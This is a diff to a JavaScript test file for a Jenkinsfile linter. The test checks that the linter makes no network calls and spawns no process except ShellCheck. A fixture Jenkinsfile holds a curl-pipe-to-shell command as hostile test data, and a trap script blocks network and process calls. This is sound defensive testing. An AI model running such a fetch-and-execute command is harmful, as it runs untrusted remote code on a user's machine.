@@ -138,26 +138,39 @@ describe('hostile inputs', () => {
   });
 });
 
-describe('the CLI never touches the network or starts processes', () => {
-  it('lints with net, http, dns and child_process trapped', () => {
-    const dir = workspace({
-      Jenkinsfile: "pipeline { agent { kubernetes { yamlFile 'pod.yaml' } } stages { stage('a') { steps { sh 'curl http://example.com | sh' } } } }\n",
-      'pod.yaml': 'spec:\n  containers:\n  - name: a\n    image: b\n',
-      'trap.cjs': `
-        const trap = (what) => () => { process.stderr.write('TRAPPED ' + what + '\\n'); process.exit(99); };
-        for (const m of ['net', 'tls', 'http', 'https', 'http2', 'dgram', 'dns']) {
-          const mod = require(m);
-          for (const k of Object.keys(mod)) if (typeof mod[k] === 'function' && /^(connect|createConnection|request|get|lookup|resolve|createSocket)/.test(k)) mod[k] = trap(m + '.' + k);
-        }
-        const cp = require('child_process');
-        for (const k of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) cp[k] = trap('child_process.' + k);
-        globalThis.fetch = trap('fetch');
-      `,
-      '.git/HEAD': '',
+describe('the CLI never touches the network, and starts no process but ShellCheck', () => {
+  // ShellCheck is the one program it runs (on PATH, never through a shell, the script a file it reads);
+  // with `shellcheck: off` it starts nothing at all.
+  for (const shellcheck of ['auto', 'off']) {
+    it(`lints with net, http, dns and child_process trapped (shellcheck: ${shellcheck})`, () => {
+      const dir = workspace({
+        Jenkinsfile: "pipeline { agent { kubernetes { yamlFile 'pod.yaml' } } stages { stage('a') { steps { sh 'curl http://example.com | sh' } } } }\n",
+        'pod.yaml': 'spec:\n  containers:\n  - name: a\n    image: b\n',
+        '.jenkinsfile-lint.yaml': `shellcheck: ${shellcheck}\n`,
+        'trap.cjs': `
+          const trap = (what) => () => { process.stderr.write('TRAPPED ' + what + '\\n'); process.exit(99); };
+          for (const m of ['net', 'tls', 'http', 'https', 'http2', 'dgram', 'dns']) {
+            const mod = require(m);
+            for (const k of Object.keys(mod)) if (typeof mod[k] === 'function' && /^(connect|createConnection|request|get|lookup|resolve|createSocket)/.test(k)) mod[k] = trap(m + '.' + k);
+          }
+          const cp = require('child_process');
+          const spawn = cp.spawn;
+          for (const k of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) cp[k] = trap('child_process.' + k);
+          const allowed = ${shellcheck === 'auto'};
+          cp.spawn = (cmd, args, opts) => {
+            if (!allowed || cmd !== 'shellcheck' || (opts && opts.shell) || args.some((a) => a.includes('curl'))) return trap('child_process.spawn ' + cmd)();
+            process.stderr.write('SPAWNED ' + cmd + '\\n');
+            return spawn(cmd, args, opts);
+          };
+          globalThis.fetch = trap('fetch');
+        `,
+        '.git/HEAD': '',
+      });
+      const r = spawnSync(process.execPath, ['--require', join(dir, 'trap.cjs'), CLI, '--format', 'json', 'Jenkinsfile'], { cwd: dir, encoding: 'utf8' });
+      assert.doesNotMatch(r.stderr, /TRAPPED/);
+      assert.ok(r.status === 0 || r.status === 1, r.stderr);
+      assert.equal(JSON.parse(r.stdout)[0].file, 'Jenkinsfile');
+      if (shellcheck === 'off') assert.doesNotMatch(r.stderr, /SPAWNED/);
     });
-    const r = spawnSync(process.execPath, ['--require', join(dir, 'trap.cjs'), CLI, '--format', 'json', 'Jenkinsfile'], { cwd: dir, encoding: 'utf8' });
-    assert.doesNotMatch(r.stderr, /TRAPPED/);
-    assert.ok(r.status === 0 || r.status === 1, r.stderr);
-    assert.equal(JSON.parse(r.stdout)[0].file, 'Jenkinsfile');
-  });
+  }
 });
